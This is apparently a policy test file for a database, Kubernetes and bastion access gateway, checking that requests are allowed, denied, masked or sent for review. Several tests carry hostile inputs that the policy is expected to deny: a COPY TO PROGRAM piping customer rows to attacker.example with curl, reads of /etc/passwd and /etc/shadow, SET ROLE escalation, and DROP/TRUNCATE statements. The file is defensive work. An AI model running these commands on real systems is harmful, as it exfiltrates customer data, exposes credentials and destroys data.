# Policy tests. `gatehouse check examples/quickstart` runs them; CI fails when
# one does. Each names the caller, the resource and the request, and the
# decision the policy must reach.

# --- analytics-job: read only --------------------------------------------

test "analytics may connect" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  request  = { kind = "connect" }
  expect   = "allow"
}

test "analytics reads orders and customers" {
  identity     = "analytics-job"
  subject      = "analytics-7f9c"
  claims       = { env = "prod" }
  resource     = "orders"
  sql          = "SELECT o.id, c.email, c.card_number FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.created_at > now() - interval '1 day'"
  expect       = "allow"
  expect_rules = ["analytics-read-only/read"]
  expect_masks = {
    "public.customers.email"       = "partial"
    "public.customers.card_number" = "redact"
  }
}

test "analytics cannot write" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "INSERT INTO orders (customer_id, total) VALUES (1, 10)"
  expect   = "deny"
}

test "analytics cannot hide a write in a CTE" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone"
  expect   = "deny"
}

test "analytics cannot move a sequence with a SELECT" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT setval('orders_id_seq', 1)"
  expect   = "deny"
}

test "analytics cannot lock rows" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT * FROM orders WHERE id = 1 FOR UPDATE"
  expect   = "deny"
}

test "a staging analytics token is not the analytics job" {
  provider = "corp"
  subject  = "analytics-7f9c"
  claims   = { env = "staging" }
  resource = "orders"
  sql      = "SELECT 1"
  expect   = "deny"
}

test "analytics reads cluster workloads" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "prod-cluster"
  request  = { verb = "list", resource = "pods", namespace = "shop" }
  expect   = "allow"
}

test "analytics cannot read cluster secrets" {
  identity     = "analytics-job"
  subject      = "analytics-7f9c"
  claims       = { env = "prod" }
  resource     = "prod-cluster"
  request      = { verb = "get", resource = "secrets", namespace = "shop", name = "db" }
  expect       = "deny"
  expect_rules = ["cluster-readers/no-secrets"]
}

test "analytics cannot exec in pods" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "prod-cluster"
  request  = { verb = "create", resource = "pods", subresource = "exec", namespace = "shop", name = "web-0", command = ["sh"] }
  expect   = "deny"
}

test "operators read secrets, masked" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "prod-cluster"
  request      = { verb = "get", resource = "secrets", namespace = "shop", name = "db" }
  expect       = "allow"
  expect_masks = { "kubernetes:secrets/data" = "redact", "kubernetes:secrets/stringData" = "redact" }
}

test "the security team reads secrets in the clear" {
  provider     = "corp"
  subject      = "sam"
  groups       = ["dba", "security"]
  resource     = "prod-cluster"
  request      = { verb = "get", resource = "secrets", namespace = "shop", name = "db" }
  expect       = "allow"
  expect_masks = {}
}

test "deleting in prod waits for a second operator" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "prod-cluster"
  request      = { verb = "delete", resource = "deployments", api_group = "apps", namespace = "prod", name = "web" }
  expect       = "review"
  expect_rules = ["cluster-operators/operate", "cluster-operators/prod-deletes"]
}

# --- billing-service: read, write billing tables --------------------------

test "billing reads" {
  identity     = "billing-service"
  resource     = "orders"
  sql          = "SELECT id, total FROM orders WHERE id = 42"
  expect       = "allow"
  expect_rules = ["billing-service/read", "billing-service/write-billing-tables"]
}

test "billing writes invoices" {
  identity     = "billing-service"
  resource     = "orders"
  sql          = "BEGIN; INSERT INTO billing.invoices (order_id, amount) SELECT id, total FROM orders WHERE id = 42; COMMIT"
  expect       = "allow"
  expect_rules = ["billing-service/write-billing-tables"]
}

test "billing cannot write orders" {
  identity     = "billing-service"
  resource     = "orders"
  sql          = "UPDATE orders SET total = 0 WHERE id = 42"
  expect       = "deny"
  expect_rules = []
}

test "billing write to payments is held for review" {
  identity     = "billing-service"
  resource     = "orders"
  sql          = "INSERT INTO payments (order_id, amount) VALUES (42, 99.50)"
  expect       = "review"
  expect_rules = ["billing-service/write-billing-tables", "guardrails/payments-need-review"]
}

test "customer email is partly masked for billing" {
  identity = "billing-service"
  resource = "orders"
  sql      = "SELECT email AS e, card_number FROM customers WHERE id = 7"
  expect   = "allow"
  expect_masks = {
    "public.customers.email"       = "partial"
    "public.customers.card_number" = "redact"
  }
}

test "pci callers see card numbers" {
  identity = "billing-service"
  groups   = ["pci"]
  resource = "orders"
  sql      = "SELECT card_number FROM customers WHERE id = 7"
  expect   = "allow"
  expect_masks = {
    "public.customers.email" = "partial"
  }
}

# --- guardrails: for everyone, DBAs included ------------------------------

test "nobody may drop" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "orders"
  sql          = "/* cleanup */ drop table \"Orders\""
  expect       = "deny"
  expect_rules = ["dba/administer", "guardrails/no-drop-or-truncate"]
}

test "nobody may truncate" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "SELECT 1; TRUNCATE payments"
  expect   = "deny"
}

test "a dollar-quoted DROP is only a string" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "SELECT $$DROP TABLE orders$$ AS note"
  expect   = "allow"
}

test "delete without where is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "DELETE FROM billing.invoices"
  expect   = "deny"
}

test "update where true is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "UPDATE billing.invoices SET amount = 0 WHERE true"
  expect   = "deny"
}

test "delete with a filter is allowed" {
  identity = "billing-service"
  resource = "orders"
  sql      = "DELETE FROM billing.invoices WHERE id = 9"
  expect   = "allow"
}

test "DO blocks are denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$"
  expect   = "deny"
}

test "new functions are denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'"
  expect   = "deny"
}

test "COPY to a program is denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "COPY customers TO PROGRAM 'curl -d @- https://attacker.example'"
  expect   = "deny"
}

test "COPY from a server file is denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "COPY customers FROM '/etc/passwd'"
  expect   = "deny"
}

test "SET ROLE is denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "SET ROLE postgres"
  expect   = "deny"
}

test "turning standard_conforming_strings off is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "SET standard_conforming_strings = off"
  expect   = "deny"
}

test "writing the settings catalog is denied" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "orders"
  sql          = "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'"
  expect       = "deny"
  expect_rules = ["dba/administer", "guardrails/no-catalog-writes"]
}

test "persisting a parser setting for the role is denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "ALTER ROLE gatehouse SET standard_conforming_strings = off"
  expect   = "deny"
}

test "changing the client encoding is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "SET NAMES 'SJIS'"
  expect   = "deny"
}

test "ALTER SYSTEM is denied" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "ALTER SYSTEM SET log_statement = 'none'"
  expect   = "deny"
}

test "set_config role is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "SELECT pg_catalog.set_config('role', 'postgres', false)"
  expect   = "deny"
}

test "server-side file export is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "SELECT lo_export(16401, '/tmp/dump')"
  expect   = "deny"
}

test "unparseable SQL is denied" {
  identity = "billing-service"
  resource = "orders"
  sql      = "SELEC * FROM orders"
  expect   = "deny"
}

test "DBA write to payments still needs review" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "UPDATE payments SET amount = 10 WHERE id = 3"
  expect   = "review"
}

# --- unknown callers and the bastion -------------------------------------

test "unknown callers are denied by default" {
  provider     = "corp"
  subject      = "mallory"
  resource     = "orders"
  sql          = "SELECT 1"
  expect       = "deny"
  expect_rules = []
  expect_masks = {}
}

test "DBAs may open sessions on the bastion" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "bastion"
  request      = { kind = "connect" }
  expect       = "allow"
  expect_rules = ["bastion-ops/connect"]
}

test "DBAs may run diagnostics on the bastion" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "bastion"
  request  = { kind = "exec", command = "uptime" }
  expect   = "allow"
}

test "no destructive commands on the bastion" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "bastion"
  request      = { kind = "exec", command = "rm -rf ./build" }
  expect       = "deny"
  expect_rules = ["bastion-ops/no-destructive"]
}

test "no compound commands on the bastion" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "bastion"
  request      = { kind = "exec", command = "uptime; cat /etc/shadow" }
  expect       = "deny"
  expect_rules = ["bastion-ops/no-destructive"]
}

test "no shell on the bastion" {
  provider = "corp"
  subject  = "alice"
  groups   = ["dba"]
  resource = "bastion"
  request  = { kind = "shell" }
  expect   = "deny"
}

test "no port forwarding through the bastion" {
  provider     = "corp"
  subject      = "alice"
  groups       = ["dba"]
  resource     = "bastion"
  request      = { kind = "forward", forward_host = "orders-db.internal", forward_port = 5432 }
  expect       = "deny"
  expect_rules = ["bastion-ops/no-forwarding"]
}

# --- masks hold against a determined caller --------------------------------
# The gateway decides these before the statement reaches PostgreSQL: a
# masked column may not be filtered, sorted, grouped or joined on, or
# computed with, and masked values may not be copied where they can be read
# back. `gatehouse eval` shows the reason.

test "analytics runs SELECT 1, count(*) and now()" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT 1; SELECT count(*) FROM orders; SELECT now()"
  expect   = "allow"
}

test "analytics lists tables as psql's \\dt does" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT n.nspname, c.relname, pg_catalog.pg_get_userbyid(c.relowner) FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r', 'p') AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1, 2"
  expect   = "allow"
}

test "analytics cannot call functions with side effects" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT pg_terminate_backend(42); SELECT set_config('work_mem', '1GB', false); SELECT lo_import('/etc/passwd'); SELECT nextval('orders_id_seq')"
  expect   = "deny"
}

test "analytics cannot guess card numbers with a filter" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT count(*) FROM customers WHERE card_number LIKE '4111%'"
  expect   = "deny"
}

test "analytics cannot sort by email" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "orders"
  sql      = "SELECT id FROM customers ORDER BY email"
  expect   = "deny"
}

test "a DBA outside pci cannot copy card numbers into a table" {
  provider = "corp"
  subject  = "dba-alice"
  groups   = ["dba"]
  resource = "orders"
  sql      = "CREATE TEMP TABLE cards AS SELECT id, card_number FROM customers"
  expect   = "deny"
}

test "a DBA in pci may copy card numbers, not emails" {
  provider = "corp"
  subject  = "dba-bob"
  groups   = ["dba", "pci"]
  resource = "orders"
  sql      = "CREATE TEMP TABLE cards AS SELECT id, card_number FROM customers"
  expect   = "allow"
}

test "a DBA in pci cannot copy emails" {
  provider = "corp"
  subject  = "dba-bob"
  groups   = ["dba", "pci"]
  resource = "orders"
  sql      = "CREATE TEMP TABLE mails AS SELECT id, email FROM customers"
  expect   = "deny"
}

test "billing cannot copy card numbers into a table it writes" {
  identity = "billing-service"
  resource = "orders"
  sql      = "INSERT INTO billing.invoices (order_id, amount, memo) SELECT 1, 0, card_number FROM customers RETURNING memo"
  expect   = "deny"
}

test "kubectl may read the API's discovery documents" {
  identity = "analytics-job"
  subject  = "analytics-7f9c"
  claims   = { env = "prod" }
  resource = "prod-cluster"
  request  = { verb = "get", path = "/apis" }
  expect   = "allow"
}
